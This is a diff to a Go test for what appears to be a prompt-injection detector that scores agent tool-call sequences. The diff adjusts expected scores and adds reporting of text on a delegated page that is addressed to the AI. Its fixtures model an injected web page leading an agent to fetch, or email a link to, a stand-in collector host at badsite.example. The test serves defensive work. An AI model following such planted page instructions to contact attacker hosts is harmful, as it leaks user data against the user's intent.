@@ -27,7 +27,7 @@ func TestInstructedCall(t *testing.T) {
 				call("s", "read_web", `{"url":"https://collector.badsite.example/c?x=1"}`),
 				call("s", "read_web", `{"url":"https://collector.badsite.example/c?x=1"}`), // once per (tool, value)
 			},
-			want:  map[string]uint8{flow.KindInjectionAttempt: 30, flow.KindInstructedCall: 70},
+			want:  map[string]uint8{flow.KindInjectionAttempt: 34, flow.KindInstructedCall: 70},
 			count: 2,
 		},
 		{
@@ -39,9 +39,10 @@ func TestInstructedCall(t *testing.T) {
 				call("s", "read_web", `{"url":"https://collector.badsite.example/c?x=1"}`),
 			},
 			// the user delegated to the page: its words join the request, so
-			// nothing on it is planted, and following it is informational
-			want:  map[string]uint8{flow.KindInstructedCall: 40},
-			count: 1,
+			// nothing on it is planted, and following it is informational;
+			// text addressed to the AI on it is still reported as an attempt
+			want:  map[string]uint8{flow.KindInjectionAttempt: 34, flow.KindInstructedCall: 40},
+			count: 2,
 		},
 		{
 			name: "value without instruction cues",
@@ -66,7 +67,7 @@ func TestInstructedCall(t *testing.T) {
 				result("s", "read_web", injectedPage),
 				call("s", "send_email", `{"to":"me@home.example","body":"see https://collector.badsite.example/c?x=1"}`),
 			},
-			want:  map[string]uint8{flow.KindInjectionAttempt: 30, flow.KindUntrustedToSink: 80},
+			want:  map[string]uint8{flow.KindInjectionAttempt: 34, flow.KindUntrustedToSink: 80},
 			count: 2,
 		},
 		{
